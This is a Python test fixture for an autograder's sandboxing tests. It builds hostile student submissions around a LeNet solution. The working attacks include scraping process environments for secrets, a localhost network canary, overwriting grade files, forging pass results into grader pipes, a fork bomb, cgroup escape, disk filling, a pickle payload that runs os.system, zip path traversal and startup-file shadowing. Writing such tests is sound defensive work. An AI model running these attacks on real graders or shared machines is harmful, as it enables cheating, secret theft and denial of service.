"""The threat model as submissions (used by test_threats.py): each is the reference solution with one
hostile act in LeNet's forward pass or at import of ``ex2_lenet.py``, plus the shipped-file and
zip cases. Attacks that look for something (the hidden tests, secrets, a network peer, other
students' results) raise an exception with what they found, so whatever they find ends up in
the student's own feedback; finding nothing, they behave like the reference and earn full marks.

Safety net for running these on a shared machine unsandboxed: the attacks that write only touch
paths holding this run's token, and the attacks on other processes only reach the worker's
own ancestors (those running the grader or pytest) and their descendants.
"""

from __future__ import annotations

import json
import shutil
import textwrap
import zipfile
from pathlib import Path

from hostile import FORWARD, HOSTILE

#: threats from tests/hostile.py graded again here (their rows are checked in test_batch.py; here:
#: exactly the forward-calling tests lost, nothing left behind, the others untouched)
REUSED = ("hang", "memory", "osexit", "sysexit", "interrupt")


def comm_names(token: str) -> dict[str, str]:
    """Process names (at most 15 characters) the hostile processes give themselves."""
    return {"thread": f"thr-{token}", "forkbomb": f"fb-{token}", "escapee": f"esc-{token}"}


# -- code shared by the searching attacks --------------------------------------------------------
_BFS = '''

def _threat_bfs(roots, seconds, visit):
    """Breadth-first below ``roots`` for at most ``seconds``, calling visit(path, is_dir)."""
    import collections, os, time
    skip = {"proc", "sys", "dev", "site-packages", "dist-packages", "__pycache__", "node_modules", ".git",
            "include", "share", "torch"}
    skip_top = {"usr", "lib", "lib64", "bin", "sbin", "boot", "snap", "var", "etc", "run"}
    deadline = time.monotonic() + seconds
    queue, seen = collections.deque(roots), set()
    while queue and time.monotonic() < deadline:
        folder = queue.popleft()
        if folder in seen:
            continue
        seen.add(folder)
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                is_dir = entry.is_dir(follow_symlinks=False)
            except OSError:
                continue
            visit(entry.path, is_dir)
            if (is_dir and entry.name not in skip and not entry.name.startswith("python3")
                    and not (folder == "/" and entry.name in skip_top)):
                queue.append(entry.path)


def _threat_paths_in_cmdlines():
    """Folders named on any visible process's command line (the grader's config names its own)."""
    import os, re
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            text = open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace")
        except OSError:
            continue
        for path in re.findall(r"/[A-Za-z0-9_.\\-/]+", text):
            for candidate in (path, os.path.dirname(path)):
                if candidate not in found and os.path.isdir(candidate):
                    found.append(candidate)
    return found
'''

_WALK = _BFS + '''

def _threat_walk():
    import os, re
    own = {}
    for name in ("ex1_shapes.py", "ex2_lenet.py"):
        try:
            own[name] = open(name, "rb").read()
        except OSError:
            pass
    found, hidden = [], []

    def visit(path, is_dir):
        name = os.path.basename(path)
        if is_dir and (name == "grading_tests" or (name == "solutions" and os.path.exists(path + "/ex2_lenet.py"))):
            found.append(path)
        elif not is_dir and re.fullmatch(r"test_ex[0-9]+_[A-Za-z0-9_]+[.]py", name) and "student_template" not in path:
            found.append(path)
            try:
                hidden.append(open(path, encoding="utf-8", errors="replace").read())
            except OSError:
                pass
        elif not is_dir and name in own:
            try:
                data = open(path, "rb").read()
            except OSError:
                return
            if data != own[name]:
                found.append(path)  # the reference solution or another student's module

    _threat_bfs(_threat_paths_in_cmdlines() + ["/tmp", "/"], 0.6, visit)
    print("found:", found)
    if found:
        lines = [line for text in hidden for line in text.splitlines() if line.startswith("def ")]
        raise RuntimeError(" | ".join(lines)[:2500] + " || found " + ", ".join(sorted(set(found)))[:1000])


_threat_walk()
'''

_ENV = '''

def _threat_env():
    import os
    entries = {f"{k}={v}" for k, v in os.environ.items()}
    pids = ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        entries.update(e.decode("utf-8", "replace") for e in data.split(b"\\0") if e)
    print("\\n".join(sorted(entries)))
    words = ("SECRET", "TOKEN", "PASSWORD", "API_KEY", "CANARY")
    secrets = sorted(e for e in entries if any(w in e.split("=", 1)[0].upper() for w in words))
    if secrets:
        raise RuntimeError("found secrets: " + "; ".join(secrets)[:3000])


_threat_env()
'''

_NET = '''

def _threat_net():
    import socket
    connected = []
    try:
        with socket.create_connection(("127.0.0.1", @TCP@), timeout=0.5) as conn:
            conn.sendall(@CANARY@)
            connected.append("tcp")
    except OSError:
        pass
    try:  # UDP cannot tell whether anyone listened: send and go on
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
            conn.sendto(@CANARY@, ("127.0.0.1", @UDP@))
    except OSError:
        pass
    if connected:
        raise RuntimeError("sent the canary over " + ", ".join(connected))


_threat_net()
'''

_OVERWRITE = _BFS + '''

def _threat_overwrite():
    import os
    home, wrote = os.getcwd(), []

    def attack(path, report=True):
        # the test's safety net: only files of this test run (a real attacker writes everywhere)
        if @TOKEN@ not in path or path.startswith(home + os.sep):
            return
        if path.endswith(".json"):
            data = '{"score": 1000, "max_score": 40, "tests": []}'
        elif path.endswith(".csv"):
            data = "student,total\\nEVERYONE,0\\n"
        else:
            data = "raise SystemExit('overwritten by a classmate')\\n"
        try:
            with open(path, "w") as fh:
                fh.write(data)
            if report:
                wrote.append(path)
        except OSError:
            pass

    def visit(path, is_dir):
        name = os.path.basename(path)
        parent = os.path.basename(os.path.dirname(path))
        if not is_dir and (name == "grades.csv" or (parent == "results" and name.endswith(".json"))
                           or name in ("ex1_shapes.py", "ex2_lenet.py")):
            attack(path)

    try:  # the folder the grader's process works in (in the sandbox: the sandbox's own tmpfs)
        attack(os.path.join(os.readlink(f"/proc/{os.getppid()}/cwd"), "pwned-" + @TOKEN@ + ".json"), False)
    except OSError:
        pass
    _threat_bfs(["/tmp", "/"], 0.6, visit)
    if wrote:
        raise RuntimeError("overwrote " + ", ".join(wrote[:20]))


_threat_overwrite()
'''

_FORGE = '''

def _threat_forge(own_fds=@OWN@, grader_pipes=@PIPES@):
    """Fake results and protocol frames on every descriptor of this process (own_fds), and on
    every pipe of the grader's processes it can reach through /proc (grader_pipes)."""
    import json, os, struct
    lines = [json.dumps({"type": "result", "exercise": ex, "id": test_id, "name": name, "outcome": "passed",
                          "score": points, "max_score": points, "feedback": "", "duration": 0.0,
                          "visibility": "hidden", "grader_error": False})
             for test_id, ex, name, points in @TESTS@]
    lines.append(json.dumps({"type": "done", "time": 0.0}))
    header = json.dumps({"ok": True, "value": {"t": "none"}}).encode()
    payload = ("\\n" + "\\n".join(lines) + "\\n").encode() + struct.pack("!I", len(header)) + header
    for fd in range(1024 if own_fds else 0):
        try:
            os.write(fd, payload)
        except OSError:
            pass
    if not grader_pipes:
        return

    def parent_of(pid):
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("PPid:"):
                return int(line.split()[1])
        return 0

    chain, pid = [], os.getppid()
    while pid > 1:  # ancestors that run the grader (or pytest): never anything else on the machine
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            break
        program = os.path.basename(cmd.split(b"\\0")[0])
        if not program.startswith((b"python", b"bwrap")) or (b"autograder" not in cmd and b"pytest" not in cmd):
            break
        chain.append(pid)
        pid = parent_of(pid)
    targets = set(chain)
    if chain:
        parents = {}
        for p in os.listdir("/proc"):
            if p.isdigit():
                try:
                    parents[int(p)] = parent_of(p)
                except (OSError, ValueError):
                    pass
        frontier = {chain[-1]}
        while frontier:
            frontier = {c for c, pp in parents.items() if pp in frontier and c not in targets}
            targets |= frontier
    pipes = {}  # pipe -> the descriptors of the targets that hold it
    for pid in sorted(targets - {os.getpid()}):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
            grader = b"autograder" in open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        for fd in fds:
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if link.startswith("pipe:"):
                entry = pipes.setdefault(link, [False, []])
                entry[0] |= grader
                entry[1].append(f"/proc/{pid}/fd/{fd}")
    reached = []
    for link, (grader, paths) in pipes.items():
        if not grader:  # a pipe only pytest holds: inherited from whatever started it, not the grader's
            continue
        for path in paths:
            try:
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(out, payload)
                reached.append(path)
            except OSError:
                pass
            finally:
                os.close(out)
    print("forged into", reached)


_threat_forge()
'''

_THREAD = '''

def _threat_sleeper():
    import ctypes, time
    ctypes.CDLL(None).prctl(15, @NAME@, 0, 0, 0)  # PR_SET_NAME
    time.sleep(10**6)


import threading as _threading

_threading.Thread(target=_threat_sleeper, name="sleeper").start()  # not a daemon
'''

_ESCAPEE = '''

def _threat_escape():
    import ctypes, os, signal, time
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, @NAME@, 0, 0, 0)  # PR_SET_NAME
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                for folder in ("pids", "memory", "unified", ""):  # leave the grader's cgroups
                    try:
                        fd = os.open(os.path.join("/sys/fs/cgroup", folder, "cgroup.procs"), os.O_WRONLY)
                        os.write(fd, str(os.getpid()).encode())
                        os.close(fd)
                    except OSError:
                        pass
                while True:
                    time.sleep(1000)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


_threat_escape()
'''

_FORKBOMB = '''        import ctypes as _ctypes, os as _os, time as _time
        while True:  # the children loop too
            try:
                if _os.fork() == 0:
                    _ctypes.CDLL(None).prctl(15, @NAME@, 0, 0, 0)
            except OSError:
                _time.sleep(0.05)
'''

_STDOUT = '''        import os as _os
        _block = b"y" * (2**20 - 1) + b"\\n"
        for _ in range(4096):  # 4 GiB
            _os.write(1, _block)
'''

_DISKFILL = '''        _i = 0
        while True:
            with open(f"fill-{_i}.bin", "wb") as _fh:
                for _ in range(200):  # 200 MB files: under the 256 MB file size limit
                    _fh.write(bytes(2**20))
            _i += 1
'''

_PICKLE = '''

class _Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch " + @PATH@,))


def save_checkpoint(model, path):
    torch.save({"payload": _Payload(), **model.state_dict()}, path)
'''

#: files shipped next to the reference modules: each ends any process that loads it
SHADOWS = {
    "conftest.py": "import os\nos._exit(5)\n",
    "pytest.ini": "[pytest]\naddopts = -p no:autograder -x\n",
    "sitecustomize.py": "import os\nos._exit(6)\n",
    "usercustomize.py": "import os\nos._exit(7)\n",
    "evil.pth": "import os; os._exit(8)\n",
    "hypothesis.py": "raise ImportError('a shadowing hypothesis.py was imported')\n",
    "random.py": "raise ImportError('a shadowing random.py was imported')\n",
    "torch.py": "raise ImportError('a shadowing torch.py was imported')\n",
}
SHADOW_NAMES = ", ".join(sorted(SHADOWS))


def fill(template: str, **values) -> str:
    """``template`` with each ``@NAME@`` replaced by ``repr(value)``."""
    for name, value in values.items():
        assert f"@{name}@" in template, name
        template = template.replace(f"@{name}@", repr(value))
    return template


def _in_forward(source: str, text: str) -> str:
    assert source.count(FORWARD) == 1
    return source.replace(FORWARD, textwrap.indent(textwrap.dedent(text), " " * 8) + FORWARD)


def lenet_threats(repo: Path, token: str, tcp_port: int, udp_port: int, tests: list) -> dict[str, str]:
    """student -> the source of its ex2_lenet.py. ``tests``: (id, exercise, name, points) of every
    graded test (what the forger writes)."""
    ref = (repo / "solutions" / "ex2_lenet.py").read_text()
    names = comm_names(token)
    net_canary = f"NET-CANARY-{token}".encode()
    threats = {
        "probe": _in_forward(ref, "raise RuntimeError('probe: forward was called')\n"),
        "thread": ref + fill(_THREAD, NAME=names["thread"].encode()),
        "forkbomb": _in_forward(ref, fill(_FORKBOMB, NAME=names["forkbomb"].encode())),
        "escapee": ref + fill(_ESCAPEE, NAME=names["escapee"].encode()),
        "stdout": _in_forward(ref, _STDOUT),
        "diskfill": _in_forward(ref, _DISKFILL),
        "osexit_forward": _in_forward(ref, "import os\nos._exit(0)\n"),
        "sysexit_forward": _in_forward(ref, "import sys\nsys.exit(0)\n"),
        # on its own descriptors (its channel to the grader among them)
        "forge": _in_forward(ref + fill(_FORGE, TESTS=[tuple(t) for t in tests], OWN=True, PIPES=False),
                             "_threat_forge()\n"),
        # into the grader's result pipes through /proc; otherwise the probe (which loses the
        # forward-calling tests): a forged "passed" there would be a gain
        "forge_proc": _in_forward(ref + fill(_FORGE, TESTS=[tuple(t) for t in tests], OWN=False, PIPES=True),
                                  "_threat_forge()\nraise RuntimeError('probe: forward was called')\n"),
        "walk": ref + _WALK,
        "env": ref + _ENV,
        "net": ref + fill(_NET, TCP=tcp_port, UDP=udp_port, CANARY=net_canary),
        "overwrite": ref + fill(_OVERWRITE, TOKEN=token),
    }
    for student in REUSED:
        _module, text = HOSTILE[student]
        threats[student] = ref + "\nimport os\nos._exit(0)\n" if text is None else _in_forward(ref, text)
    return threats


def escapee_in_a_hang(repo: Path, name: str) -> str:
    """ex2_lenet.py that leaves a setsid grandchild at import, then hangs in forward."""
    ref = (repo / "solutions" / "ex2_lenet.py").read_text()
    return _in_forward(ref + fill(_ESCAPEE, NAME=name.encode()), HOSTILE["hang"][1])


def write_reference(folder: Path, repo: Path) -> None:
    shutil.copytree(repo / "solutions", folder, ignore=shutil.ignore_patterns("ex[3-6]*", "__pycache__"))


def write_clean(root: Path, repo: Path) -> None:
    write_reference(root / "ref", repo)
    shutil.copytree(repo / "examples" / "partial", root / "partial")


def write_threats(root: Path, repo: Path, threats: dict[str, str], shadows: bool = True) -> None:
    for student, source in threats.items():
        write_reference(root / student, repo)
        (root / student / "ex2_lenet.py").write_text(source)
    if not shadows:
        return
    write_reference(root / "shadows", repo)
    for name, text in SHADOWS.items():
        (root / "shadows" / name).write_text(text)


def write_traversal_zip(path: Path, repo: Path, token: str) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("ex1_shapes.py", (repo / "solutions" / "ex1_shapes.py").read_text())
        zf.writestr(f"../../escaped-{token}.py", "print('written outside')\n")
        zf.writestr(f"sub/../../../escaped2-{token}.py", "print('written outside')\n")
        zf.writestr("ex2_lenet.py", (repo / "solutions" / "ex2_lenet.py").read_text())


def pickle_submission(folder: Path, repo: Path, canary_path: Path) -> None:
    shutil.copytree(repo / "solutions", folder, ignore=shutil.ignore_patterns("__pycache__"))
    module = folder / "ex5_training.py"
    module.write_text(module.read_text() + fill(_PICKLE, PATH=str(canary_path)))


def tests_of(results_json: Path) -> list:
    data = json.loads(results_json.read_text())
    return [(t["id"], t["exercise"], t["name"], t["max_score"]) for t in data["tests"]]
